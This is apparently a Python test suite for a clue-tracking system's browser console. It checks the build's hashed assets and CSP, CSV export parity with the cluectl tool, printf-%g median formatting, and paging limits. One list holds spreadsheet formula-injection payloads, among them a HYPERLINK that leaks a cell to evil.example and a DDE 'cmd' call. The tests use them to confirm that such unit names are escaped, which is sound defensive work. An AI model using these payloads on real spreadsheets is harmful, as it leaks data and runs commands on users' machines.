"""The console without a browser (docs/CONSOLE.md):

- the build (scripts/console-build, which scripts/test runs into build-test/console) is an
  index.html naming content-hashed assets that exist, with a Content-Security-Policy that
  keeps scripts, styles and connections to the page's origin, no source maps, and a bundle
  of a few hundred kB gzipped at most;
- the statistics page's CSV (console/src/csv.ts, run under node on GetStatistics' real answer
  from clued) is byte for byte what `cluectl stats --csv` prints for the same period, for an
  auditor's whole scope and a room's;
- its medians are formatted as C's printf("%g") formats them (called through ctypes), over
  awkward values and exact binary ties, which glibc rounds to even (10.03125 -> 10.0312);
  a median that is such a tie reads the same in both CSVs;
- a unit name a spreadsheet would take for a formula (= + - @, a tab or CR first) gets a
  leading quote, in the console as in cluectl;
- the pages of a long list are read to the last one, and no further than a token already
  sent or the page cap (console/src/paging.ts, run under node).
"""

import csv
import ctypes
import ctypes.util
import fractions
import gzip
import io
import json
import os
import random
import re
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
import console_data  # noqa: E402
import world  # noqa: E402

S = harness.stubs()
ST = S.stats_pb2
CONSOLE_SRC = os.path.join(harness.SRC, "console")
GZ_LIMIT = 400 * 1024  # "a few hundred kB"


class Ctx:
    pass


def setup():
    c = Ctx()
    assert os.path.exists(os.path.join(console_data.CONSOLE_DIR, "index.html")), \
        f"no console in {console_data.CONSOLE_DIR}: scripts/test builds it (scripts/console-build)"
    esbuild = os.path.join(CONSOLE_SRC, "node_modules", ".bin", "esbuild")
    assert os.access(esbuild, os.X_OK), "the console's npm packages are missing (scripts/console-build installs them)"
    c.tmp = tempfile.mkdtemp(prefix="clued-console-csv-")
    c.check = os.path.join(c.tmp, "csv-check.mjs")
    subprocess.run([esbuild, os.path.join(CONSOLE_SRC, "test", "csv-check.ts"), "--bundle", "--platform=node",
                    "--format=esm", "--log-level=warning", f"--outfile={c.check}"], check=True, cwd=CONSOLE_SRC)
    c.pg = harness.Postgres.get()
    c.dbname = c.pg.new_database()
    c.db = c.pg.connect(c.dbname)
    c.db.autocommit = True
    c.srv = harness.Clued(c.pg.url(c.dbname), args=["--accepted-deadline-days", "5"]).start()
    c.w = world.build(c.srv)
    console_data.build_dataset(c)
    return c


def teardown(c):
    c.w.close()
    c.db.close()
    c.srv.stop()
    subprocess.call(["rm", "-rf", c.tmp])


def test_the_build_is_hashed_assets_behind_one_index(c):
    d = console_data.CONSOLE_DIR
    html = open(os.path.join(d, "index.html")).read()
    named = re.findall(r'(?:src|href)="/(assets/[^"]+)"', html)  # absolute: /clue/17 serves it too
    assert sorted(named) == sorted("assets/" + f for f in os.listdir(os.path.join(d, "assets"))), named
    for n in named:
        assert re.fullmatch(r"assets/main-[A-Z0-9]{8}\.(js|css)", n), n
    assert not [f for f in os.listdir(os.path.join(d, "assets")) if f.endswith(".map")], "source maps shipped"
    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html).group(1)
    for rule in ("default-src 'none'", "script-src 'self'", "connect-src 'self'", "style-src 'self'"):
        assert rule in csp, csp
    size = sum(len(gzip.compress(open(os.path.join(d, p), "rb").read(), 9)) for p in ["index.html", *named])
    print(f"console bundle: {size / 1024:.1f} kB gzipped")
    assert size < GZ_LIMIT, f"{size} bytes gzipped"


def csv_of(c, resp):
    path = os.path.join(c.tmp, "stats.bin")
    with open(path, "wb") as f:
        f.write(resp.SerializeToString())
    r = subprocess.run(["node", c.check, path], capture_output=True, timeout=60)
    assert r.returncode == 0, r.stderr
    return r.stdout


def test_csv_is_what_cluectl_prints(c):
    frm, to = "2026-01-01T00:00:00Z", "2031-01-01T00:00:00Z"
    f_ms, t_ms = 1767225600000, 1924992000000
    for who, units in ((c.w.auditor, 6), (c.w.R1.leader, 3)):
        resp = who.stats.GetStatistics(ST.GetStatisticsRequest(from_ms=f_ms, to_ms=t_ms), timeout=20)
        assert len(resp.units) == units and any(u.closed_by_disposal for u in resp.units), resp
        printed = console_data.cluectl_bytes("stats", "--from", frm, "--to", to, "--csv",
                                             server=c.srv.addr, token=who.token)
        got = csv_of(c, resp)
        assert got == printed, f"console:\n{got}\ncluectl:\n{printed}"
        assert got.count(b"\r\n") == units + 1, got
    # Zero-disposal units without figures of their own get their row too, as cluectl prints it.
    resp = c.w.auditor.stats.GetStatistics(ST.GetStatisticsRequest(from_ms=f_ms, to_ms=t_ms), timeout=20)
    zero = resp.zero_disposal_units[0]
    trimmed = ST.GetStatisticsResponse(units=[u for u in resp.units if u.unit_id != zero.unit_id],
                                       zero_disposal_units=resp.zero_disposal_units)
    line = [ln for ln in csv_of(c, trimmed).decode().split("\r\n") if ln.startswith(f"{zero.unit_id},")]
    kinds = len({d.disposal for u in resp.units for d in u.closed_by_disposal})
    assert line == [f"{zero.unit_id},{zero.unit_code},{zero.unit_name},,,,,,,,,,yes" + "," * kinds], line


LIBC = ctypes.CDLL(ctypes.util.find_library("c"))


def printf_g(v):
    """What C's printf("%g") prints for v, from the C library cluectl uses."""
    buf = ctypes.create_string_buffer(64)
    LIBC.snprintf(buf, len(buf), b"%g", ctypes.c_double(v))
    return buf.value.decode()


def exact_ties(rng, n):
    """Doubles whose exact binary value has 7 significant digits, the last a 5: a tie for %g's
    6, which the C library rounds to even, down as often as up."""
    out = []
    while len(out) < n:
        digits = rng.randrange(100000, 1000000) * 10 + 5
        exact = fractions.Fraction(digits) * fractions.Fraction(10) ** rng.randint(-10, 6)
        if fractions.Fraction(float(exact)) == exact:
            out.append(float(exact))
    return out


def test_medians_format_as_printf_g(c):
    rng = random.Random(15)
    values = [0.0, 1.0, 1.5, 0.1, 0.0001, 0.00001, 0.000123456789, 12.3333333, 99.99999, 999999.5, 1000000.0,
              123456.7, 1234567.0, 2.5e-7, 45.0, 0.5, 9.9999995, 1e21, 1e-320, 5e-324, 1.7976931348623157e308]
    # Exact ties: down to even (10.0312, 1024.12, 0.000976562, 1.23456e+06), up to even
    # (10.0938, 1024.38, 1.23458e+06, 1e+06); 1.005 and 0.0001234565 are no ties in binary.
    ties = [10.03125, 1024.125, 0.0009765625, 1234565.0, 10.09375, 1024.375, 1234575.0, 999999.5]
    assert [printf_g(v) for v in ties] == ["10.0312", "1024.12", "0.000976562", "1.23456e+06", "10.0938", "1024.38",
                                          "1.23458e+06", "1e+06"]
    values += ties + [1.005, 0.0001234565] + exact_ties(rng, 300)
    values += [rng.random() * 10 ** rng.randint(-8, 7) for _ in range(300)]
    r = subprocess.run(["node", c.check, "--g"], input="\n".join(repr(v) for v in values), capture_output=True,
                       text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    got = r.stdout.split()
    want = [printf_g(v) for v in values]
    bad = [(v, g, w) for v, g, w in zip(values, got, want) if g != w]
    assert len(got) == len(values) and not bad, bad[:10]


def test_long_lists_are_read_to_the_last_page_within_bounds(c):
    """allPages (console/src/paging.ts), which every view of a whole list reads through,
    follows each next token to the last page, stops on a token it already sent (a server going
    round in a circle, or answering "more" without a row to go on from) and after its page cap,
    and says which of the two cut the list short."""
    esbuild = os.path.join(CONSOLE_SRC, "node_modules", ".bin", "esbuild")
    check = os.path.join(c.tmp, "paging-check.mjs")
    subprocess.run([esbuild, os.path.join(CONSOLE_SRC, "test", "paging-check.ts"), "--bundle", "--platform=node",
                    "--format=esm", "--log-level=warning", f"--outfile={check}"], check=True, cwd=CONSOLE_SRC)
    r = subprocess.run(["node", check], capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    got = {x["name"]: x for x in map(json.loads, r.stdout.splitlines())}

    def want(name, rows, last, complete, pages, cut, sent):
        g = got[name]
        assert (g["rows"], g["last"], g["complete"], g["pages"], g["cut"], g["sent"]) == \
            (rows, last, complete, pages, cut, sent), g

    want("one page", 3, 2, True, 1, None, [""])
    want("empty", 0, None, True, 1, None, [""])
    want("three pages", 1201, 1200, True, 3, None, ["", "t1", "t2"])
    want("to the cap", 50, 49, False, 5, "cap", ["", "t1", "t2", "t3", "t4"])
    want("default cap", 20000, 19999, False, 20, "cap", [""] + [f"t{k}" for k in range(1, 20)])
    want("circle", 3, 3, False, 3, "loop", ["", "a", "b"])
    want("no progress", 2, 2, False, 2, "loop", ["", "2"])


# Unit names a spreadsheet would run as formulas (an ADMIN names units).
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1",
            "-2+3"]


def test_formula_names_are_text(c):
    """A unit name starting with = + - @ (or a tab or CR) gets a leading quote in the console's
    CSV as in cluectl's, byte for byte; numbers and other names are left as they are. Runs
    last: it adds units."""
    w = c.w
    ids = []
    for i, name in enumerate(FORMULAS):
        u = w.admin.admin.CreateUnit(S.admin_pb2.CreateUnitRequest(
            kind=S.common_pb2.UNIT_KIND_REGION, code=f"FX{i}", name=name), timeout=10)
        ids.append(u.id)
    frm, to = "2026-01-01T00:00:00Z", "2031-01-01T00:00:00Z"
    resp = w.auditor.stats.GetStatistics(ST.GetStatisticsRequest(from_ms=1767225600000, to_ms=1924992000000,
                                                                 unit_ids=ids + [w.G1.id]), timeout=20)
    printed = console_data.cluectl_bytes("stats", "--from", frm, "--to", to, "--csv", "--unit", str(w.G1.id),
                                         *[a for i in ids for a in ("--unit", str(i))],
                                         server=c.srv.addr, token=w.auditor.token)
    got = csv_of(c, resp)
    assert got == printed, f"console:\n{got.decode()}\ncluectl:\n{printed.decode()}"
    rows = {r[0]: r for r in csv.reader(io.StringIO(got.decode(), newline=""))}
    for uid, name in zip(ids, FORMULAS):
        assert rows[str(uid)][2] == "'" + name, rows[str(uid)]
    assert rows[str(w.G1.id)][2] == "group G1" and rows[str(w.G1.id)][3].isdigit(), rows[str(w.G1.id)]
    # A tab or CR first (no unit name holds one: made up here), a quote inside, and a name
    # merely holding a minus sign.
    made = ST.GetStatisticsResponse(units=[
        ST.UnitStats(unit_id=1, unit_code="T1", unit_name="\t=1+1", received=3),
        ST.UnitStats(unit_id=2, unit_code="T2", unit_name="\r=1+1", received=-4),
        ST.UnitStats(unit_id=3, unit_code="T3", unit_name='-"x",y'),
        ST.UnitStats(unit_id=4, unit_code="T4", unit_name="某局-二处")])
    lines = csv_of(c, made).decode().split("\r\n")
    assert lines[1].startswith("1,T1,\"'\t=1+1\",3,"), lines[1]  # a tab: quoted, as a separator
    assert lines[2].startswith('2,T2,"\'\r=1+1",-4,'), lines[2]
    assert lines[3].startswith('3,T3,"\'-""x"",y",0,'), lines[3]
    assert lines[4].startswith("4,T4,某局-二处,0,"), lines[4]


def test_a_median_on_an_exact_tie_is_what_cluectl_prints(c):
    """Medians of July 2025 that are exact binary ties at %g's seventh digit, set on the audit
    events' times: a preliminary check of 10 days 45 minutes (10.03125 days, printed 10.0312)
    and one of 10 days 2 hours 15 minutes (10.09375, 10.0938); a clue accepted for 1024 days
    3 hours (1024.125, 1024.12) and one for 1024 days 9 hours (1024.375, 1024.38). The
    console's CSV is cluectl's, byte for byte. Rewrites audit events: runs last."""
    w = c.w
    base = 1751328000000  # 2025-07-01T00:00:00Z
    hour = 3600000

    def set_at(clue, action, to_state, ms):
        with c.db.cursor() as cur:
            cur.execute("SET session_replication_role = replica")
            cur.execute("UPDATE audit_events SET at = to_timestamp(%s / 1000.0) WHERE subject_type = 'clue'"
                        " AND subject_id = %s AND action = %s AND to_state = %s", (ms, clue, action, to_state))
            assert cur.rowcount == 1, (clue, action, to_state)
            cur.execute("SET session_replication_role = DEFAULT")

    def checked(unit, accepted_ms, check_ms):
        x = console_data.submit(unit.member, "统计中位数")
        x = console_data.move(unit.leader, x, S.common_pb2.CLUE_STATE_PRELIMINARY_CHECK).clue
        console_data.move(unit.leader, x, S.common_pb2.CLUE_STATE_CLOSED, finding="经初核，反映问题不属实")
        set_at(x.id, "clue.submit", "ACCEPTED", base)
        set_at(x.id, "clue.move", "PRELIMINARY_CHECK", base + accepted_ms)
        set_at(x.id, "clue.move", "CLOSED", base + accepted_ms + check_ms)

    def accepted(unit, days_ms):
        x = console_data.submit(unit.member, "统计中位数")
        console_data.move(unit.leader, x, S.common_pb2.CLUE_STATE_CLOSED, disposal=S.clue_pb2.DISPOSAL_SHELVED)
        set_at(x.id, "clue.submit", "ACCEPTED", base + 20 * console_data.DAY_MS - days_ms)
        set_at(x.id, "clue.move", "CLOSED", base + 20 * console_data.DAY_MS)

    checked(w.G1, console_data.DAY_MS, 10 * console_data.DAY_MS + 45 * 60000)
    checked(w.G2, 2 * console_data.DAY_MS, 10 * console_data.DAY_MS + 135 * 60000)
    accepted(w.G3, 1024 * console_data.DAY_MS + 3 * hour)
    accepted(w.X1, 1024 * console_data.DAY_MS + 9 * hour)
    resp = w.auditor.stats.GetStatistics(ST.GetStatisticsRequest(from_ms=base, to_ms=1754006400000), timeout=20)
    medians = {u.unit_code: (u.median_days_accepted, u.median_days_preliminary_check) for u in resp.units}
    assert medians["G1"] == (1.0, 10.03125) and medians["G2"] == (2.0, 10.09375), medians
    assert medians["G3"] == (1024.125, 0.0) and medians["X1"] == (1024.375, 0.0), medians
    printed = console_data.cluectl_bytes("stats", "--from", "2025-07-01T00:00:00Z", "--to", "2025-08-01T00:00:00Z",
                                         "--csv", server=c.srv.addr, token=w.auditor.token)
    got = csv_of(c, resp)
    assert got == printed, f"console:\n{got.decode()}\ncluectl:\n{printed.decode()}"
    rows = {r[1]: r[9:11] for r in csv.reader(io.StringIO(got.decode(), newline=""))}
    assert rows["G1"] == ["1", "10.0312"] and rows["G2"] == ["2", "10.0938"], rows
    # No clue left the stage: an empty cell in both, as the table's "-", never a median of 0.
    assert rows["G3"] == ["1024.12", ""] and rows["X1"] == ["1024.38", ""], rows


if __name__ == "__main__":
    harness.run_tests(globals(), setup=setup, teardown=teardown)
